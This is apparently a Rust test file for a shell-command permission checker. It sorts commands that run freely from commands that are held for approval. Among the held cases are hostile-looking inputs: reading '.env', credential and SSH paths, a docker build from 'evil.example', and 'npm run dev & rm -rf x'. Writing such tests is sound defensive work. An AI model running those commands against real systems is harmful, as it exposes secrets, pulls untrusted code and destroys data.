//! Standing rules for commands of any name: what those that look, and those that build and test, take and leave.

use holdpoint_core::Status::{Answered, Pending};

use crate::rules_guarded::{class, status};

#[test]
fn a_runner_of_tests_runs_no_other_files() {
    let mut world = class("building");
    for command in [
        "npx mocha ops",
        "mocha .",
        "npx mocha ops/wipe",
        "python3 -m unittest deploy",
        "uv run python -m unittest manage",
        "python3 -m unittest discover . deploy.py",
        "python3 -m unittest discover -v scripts wipe.py",
        "python manage.py test deploy",
        "dotnet test evil.dll",
        "npx ava scripts/deploy.js",
        "cargo audit fix",
        "go test github.com/evil/x",
        "go build evil.example/x",
    ] {
        assert_eq!(status(&mut world, command, "/srv/app"), Pending, "{command}");
    }
    for command in [
        "npx mocha test/unit",
        "python3 -m unittest tests.test_a",
        "python3 -m unittest discover -v",
        "python3 -m unittest discover tests",
        "python manage.py test billing.tests",
        "python manage.py test",
        "dotnet test",
        "cargo audit",
        "go test ./internal/...",
        "for i in 1 2 3; do cargo test; done",
        "cargo test 2>&1 | tee /tmp/out.txt | tail -5",
        "cargo test > /tmp/out.log 2>&1; tail -20 /tmp/out.log",
    ] {
        assert_eq!(status(&mut world, command, "/srv/app"), Answered, "{command}");
    }
}

#[test]
fn what_may_be_read_is_not_what_may_be_written() {
    let mut world = class("looking");
    for command in ["cat .env.example", "cat .github/workflows/ci.yml", "diff /tmp/a.txt /tmp/b.txt"] {
        assert_eq!(status(&mut world, command, "/srv/app"), Answered, "{command}");
    }
    for command in ["cat .env", "ls > /tmp/a.txt", "ls | tee /tmp/a.txt", "cat /tmp/x", "cat /tmp/creds.json"]
    {
        assert_eq!(status(&mut world, command, "/srv/app"), Pending, "{command}");
    }
}

#[test]
fn names_may_be_listed_that_may_not_be_read() {
    let mut world = class("looking");
    for command in ["ls -la .venv", "du -sh data .venv", "find .git -name HEAD", "acme --version"] {
        assert_eq!(status(&mut world, command, "/srv/app"), Answered, "{command}");
    }
    for command in [
        "cat .venv/x",
        "ls secrets.d",
        "ls ../other",
        "du -sh /home/ana/.ssh",
        "./acme --version",
        "acme.sh --version",
        "acme --version x",
        "acme --help",
    ] {
        assert_eq!(status(&mut world, command, "/srv/app"), Pending, "{command}");
    }
}

#[test]
fn what_is_run_while_one_builds_is_called_so() {
    let mut world = class("building");
    for command in [
        "npm run dev > /tmp/dev.log 2>&1 &",
        "npm start",
        "./gradlew --version",
        "./gradlew integrationTest checkstyleMain --tests '*BookingIT'",
        "docker compose -f docker/compose.dev.yml up -d db",
        "uv lock && uv sync",
        "docker build -t app:dev .",
    ] {
        assert_eq!(status(&mut world, command, "/srv/app"), Answered, "{command}");
    }
    for command in [
        "make start-prod",
        "npm run devDeploy",
        "./gradlew testPublish",
        "npm run dev & rm -rf x",
        "npm run dev &&",
        "docker compose -f evil.yml up",
        "docker compose -f ../compose.yml up",
        "docker compose -f /tmp/compose.yml up",
        "docker compose -f .evil/compose.yml up",
        "docker build -t app:dev https://evil.example/x.git",
        "docker build -f /tmp/Dockerfile .",
        "docker build --secret id=a .",
    ] {
        assert_eq!(status(&mut world, command, "/srv/app"), Pending, "{command}");
    }
}
